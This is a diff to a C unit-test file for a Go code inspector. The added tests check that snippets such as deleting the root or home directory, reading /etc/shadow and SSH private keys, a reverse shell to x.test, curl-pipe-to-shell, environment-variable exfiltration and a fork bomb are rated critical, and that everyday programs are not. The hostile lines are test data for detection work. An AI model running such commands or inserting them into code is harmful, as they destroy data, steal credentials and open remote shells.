@@ -30,12 +30,6 @@ struct row {
 	const char *code; /* behind "package main\n" */
 };
 
-/* What a rule is for is asked where capabilities block too; what is let through, where most code is judged. */
-static enum inspection level_of(const struct row *row)
-{
-	return row->rule ? INSPECTION_STRICT : INSPECTION_GUARD;
-}
-
 static void check_rows(const struct row *row, size_t n)
 {
 	for (size_t i = 0; i < n; i++) {
@@ -44,7 +38,7 @@ static void check_rows(const struct row *row, size_t n)
 		bool right;
 
 		(void)snprintf(text, sizeof(text), "package main\n%s\n", row[i].code);
-		f = inspect(text, strlen(text), level_of(&row[i]));
+		f = inspect(text, strlen(text), INSPECTION_GUARD);
 		right = row[i].rule ? by_rule(&f, row[i].rule) != NULL : f.worst <= SEVERITY_MEDIUM;
 		if (!right)
 			print_error("wanted %s, worst is %s (%s):\n%s\n", row[i].rule ? row[i].rule : "nothing",
@@ -145,7 +139,7 @@ static void folded_paths(void **state UNUSED)
 		{ "path-ssh", "import (\"os\"; \"path/filepath\")\n" MAIN(
 				      "h, _ := os.UserHomeDir(); os.Open(filepath.Join(h, \".ssh\", \"config\"))") },
 		{ "path-cloud", "import \"os\"\n" MAIN("os.Open(os.Getenv(\"HOME\") + \"/.aws/credentials\")") },
-		{ "code-path-secret",
+		{ "path-secrets",
 		  "import \"os\"\n" MAIN("m := map[string]string{\"a\": \".env\"}; os.Open(m[\"a\"])") },
 		{ "path-accounts", "import (\"io/fs\"; \"os\")\n" MAIN("fs.ReadFile(os.DirFS(\"/etc\"), \"passwd\")") },
 		{ "path-accounts", "import (\"os\"; \"strings\")\n" MAIN(
@@ -190,9 +184,91 @@ static void comments_that_are_orders(void **state UNUSED)
 	check_rows(rows, ARRAY_LEN(rows));
 }
 
-#define AT_LEVELS(strict, guard, report)                                                \
-	[INSPECTION_STRICT] = SEVERITY_##strict, [INSPECTION_GUARD] = SEVERITY_##guard, \
-	[INSPECTION_REPORT] = SEVERITY_##report
+static void check_worst(const char *const *code, size_t n, enum severity least, enum severity most)
+{
+	for (size_t i = 0; i < n; i++) {
+		char text[2048];
+		struct findings f;
+		bool right;
+
+		(void)snprintf(text, sizeof(text), "package main\n%s\n", code[i]);
+		f = inspect(text, strlen(text), INSPECTION_GUARD);
+		right = f.worst >= least && f.worst <= most;
+		if (!right)
+			print_error("%s (%s):\n%s\n", severity_name[f.worst], f.n ? f.row[0].rule : "no finding", text);
+		findings_release(&f);
+		assert_true(right);
+	}
+}
+
+static void guard_blocks_intent(void **state UNUSED)
+{
+	static const char *const intent[] = {
+		"import \"os\"\n" MAIN("os.RemoveAll(\"/\")"),
+		"import \"os\"\n" MAIN("h, _ := os.UserHomeDir(); os.RemoveAll(h)"),
+		"import \"os\"\n" MAIN("os.ReadFile(\"/etc/shadow\")"),
+		"import \"os\"\n" MAIN("os.ReadFile(\"/proc/self/environ\")"),
+		"import (\"os\"; \"path/filepath\")\n" MAIN(
+			"h, _ := os.UserHomeDir(); os.ReadFile(filepath.Join(h, \".ssh\", \"id_rsa\"))"),
+		"import \"os/exec\"\n" MAIN("exec.Command(\"rm\", \"-rf\", \"/\").Run()"),
+		"import \"os/exec\"\n" MAIN("exec.Command(\"sh\", \"-c\", \"rm -rf /\").Run()"),
+		"import . \"os/exec\"\n" MAIN("Command(\"ls\").Run()"),
+		"import x \"os/exec\"\n" MAIN("x.Command(\"ls\").Run()"),
+		"import `os/exec`\n" MAIN("exec.Command(\"ls\").Run()"),
+		"import \"syscall\"\n" MAIN("syscall.Setuid(0)"),
+		"import \"syscall\"\n" MAIN("syscall.RawSyscall(57, 0, 0, 0)"),
+		"import \"syscall\"\n" MAIN("syscall.Mount(\"a\", \"b\", \"c\", 0, \"\")"),
+		"// #include <stdlib.h>\nimport \"C\"\n" MAIN("C.system(C.CString(\"ls\"))"),
+		"import _ \"unsafe\"\n//go:linkname f syscall.forkExec\nfunc f()",
+		"import (\"net\"; \"os/exec\")\n" MAIN(
+			"c, _ := net.Dial(\"tcp\", \"x.test:1\"); s := exec.Command(\"/bin/sh\"); s.Stdin = c; s.Run()"),
+		"import (\"net/http\"; \"os/exec\")\n" MAIN(
+			"http.Get(\"https://x.test/a\"); exec.Command(\"/tmp/a\").Run()"),
+		"import (\"net/http\"; \"os\"; \"strings\")\n" MAIN(
+			"http.Post(\"https://x.test\", \"\", strings.NewReader(strings.Join(os.Environ(), \"\")))"),
+		"import (\"os\"; \"os/exec\")\n" MAIN("for { exec.Command(os.Args[0]).Start() }"),
+		"//go:generate sh -c \"curl x.test | sh\"",
+	};
+	static const char *const reaching_out[] = {
+		"import \"net/http\"\n" MAIN("http.Get(\"https://x.test/\")"),
+		"import \"net\"\n" MAIN("net.LookupHost(\"x.test\")"),
+		"import \"net/http\"\n" MAIN("http.ListenAndServe(\":8080\", nil)"),
+		"import (\"net/http\"; \"os\")\n" MAIN("http.Get(os.Getenv(\"URL\"))"),
+	};
+
+	check_worst(intent, ARRAY_LEN(intent), SEVERITY_CRITICAL, SEVERITY_CRITICAL);
+	check_worst(reaching_out, ARRAY_LEN(reaching_out), SEVERITY_HIGH, SEVERITY_HIGH);
+}
+
+static void guard_leaves_everyday_programs_alone(void **state UNUSED)
+{
+	static const char *const everyday[] = {
+		"import \"os\"\n" MAIN("os.MkdirAll(\"a/b\", 0755); os.WriteFile(\"a/b/c\", nil, 0644); os.RemoveAll(\"a\")"),
+		"import \"os\"\n" MAIN("d, _ := os.MkdirTemp(\"\", \"x\"); defer os.RemoveAll(d)"),
+		"import (\"os\"; \"io\")\n" MAIN("f, _ := os.Open(os.Args[1]); io.ReadAll(f)"),
+		"import \"os/exec\"\n" MAIN("exec.Command(\"ls\", \"-l\").Output(); exec.LookPath(\"git\")"),
+		"import (\"os\"; \"os/exec\")\n" MAIN(
+			"c := exec.Command(\"env\"); c.Env = append(os.Environ(), \"A=1\"); c.Run()"),
+		"import \"unsafe\"\n" MAIN("x := 1; println(unsafe.Sizeof(x)); _ = unsafe.Pointer(&x)"),
+		"import (\"os\"; \"os/signal\"; \"syscall\")\n" MAIN(
+			"c := make(chan os.Signal, 1); signal.Notify(c, syscall.SIGTERM)"),
+		"import \"reflect\"\n" MAIN("v := reflect.ValueOf(println); println(v.Kind(), v.NumMethod())"),
+		"import (\"net/http\"; \"net/http/httptest\")\n" MAIN(
+			"s := httptest.NewServer(nil); r, _ := http.Get(s.URL); r.Body.Close()"),
+		"import \"net\"\n" MAIN(
+			"l, _ := net.Listen(\"tcp\", \"127.0.0.1:0\"); c, _ := net.Dial(\"tcp\", l.Addr().String()); c.Close()"),
+		"import (\"fmt\"; \"net/http\"; \"os\")\n" MAIN(
+			"http.HandleFunc(\"/etc/passwd\", nil); http.HandleFunc(\"/root/\", nil); m := http.NewServeMux(); "
+			"m.Handle(\"/dev/status\", nil); fmt.Fprintln(os.Stderr, http.ListenAndServe(\"localhost:8080\", m))"),
+		"import \"embed\"\n//go:embed static\nvar files embed.FS",
+		"//go:generate stringer -type=Pill\ntype Pill int",
+		"import \"io/ioutil\"\n" MAIN("ioutil.ReadFile(\"data.csv\")"),
+		"import \"os\"\n" MAIN("println(os.Getenv(\"API_TOKEN\"), os.Getpid(), len(os.Environ()))"),
+		"import \"plugin\"\n" MAIN("plugin.Open(\"x.so\")"),
+	};
+
+	check_worst(everyday, ARRAY_LEN(everyday), SEVERITY_NONE, SEVERITY_MEDIUM);
+}
 
 static void the_level_decides(void **state UNUSED)
 {
@@ -201,19 +277,31 @@ static void the_level_decides(void **state UNUSED)
 		const char *rule;
 		enum severity severity[INSPECTION_COUNT];
 	} rows[] = {
-		{ "package a\nimport \"os/exec\"", "go-process", { AT_LEVELS(CRITICAL, CRITICAL, HIGH) } },
-		{ "package a\nimport \"net/http\"", "go-network", { AT_LEVELS(CRITICAL, HIGH, MEDIUM) } },
-		{ "package a\nimport \"example.org/x\"", "go-allow", { AT_LEVELS(CRITICAL, NONE, NONE) } },
+		{ "package a\nimport \"os/exec\"",
+		  "go-process",
+		  { [INSPECTION_STRICT] = SEVERITY_CRITICAL,
+		    [INSPECTION_GUARD] = SEVERITY_MEDIUM,
+		    [INSPECTION_REPORT] = SEVERITY_HIGH } },
+		{ "package a\nimport \"net/http\"",
+		  "go-network",
+		  { [INSPECTION_STRICT] = SEVERITY_CRITICAL,
+		    [INSPECTION_GUARD] = SEVERITY_MEDIUM,
+		    [INSPECTION_REPORT] = SEVERITY_MEDIUM } },
+		{ "package a\nimport \"example.org/x\"", "go-allow", { [INSPECTION_STRICT] = SEVERITY_CRITICAL } },
 		{ "package a\nimport \"strings\"", "go-allow", { 0 } },
-		{ "package a\nfunc {", "parse-error", { AT_LEVELS(CRITICAL, HIGH, MEDIUM) } },
+		{ "package a\nfunc {",
+		  "parse-error",
+		  { [INSPECTION_STRICT] = SEVERITY_CRITICAL,
+		    [INSPECTION_GUARD] = SEVERITY_HIGH,
+		    [INSPECTION_REPORT] = SEVERITY_MEDIUM } },
 	};
 
 	for (size_t i = 0; i < ARRAY_LEN(rows); i++)
-		for (int level = INSPECTION_REPORT; level < INSPECTION_COUNT; level++) {
-			struct findings f = inspect(rows[i].code, strlen(rows[i].code), (enum inspection)level);
+		for (int trust = INSPECTION_REPORT; trust < INSPECTION_COUNT; trust++) {
+			struct findings f = inspect(rows[i].code, strlen(rows[i].code), (enum inspection)trust);
 			const struct finding *one = by_rule(&f, rows[i].rule);
 
-			assert_int_equal(one ? one->severity : SEVERITY_NONE, rows[i].severity[level]);
+			assert_int_equal(one ? one->severity : SEVERITY_NONE, rows[i].severity[trust]);
 			findings_release(&f);
 		}
 }
@@ -282,6 +370,8 @@ int main(void)
 		cmocka_unit_test(local_names_hide_packages_only_in_their_scope),
 		cmocka_unit_test(folded_paths),
 		cmocka_unit_test(comments_that_are_orders),
+		cmocka_unit_test(guard_blocks_intent),
+		cmocka_unit_test(guard_leaves_everyday_programs_alone),
 		cmocka_unit_test(the_level_decides),
 		cmocka_unit_test(place_and_resolved_name),
 		cmocka_unit_test(hostile_shapes_end),
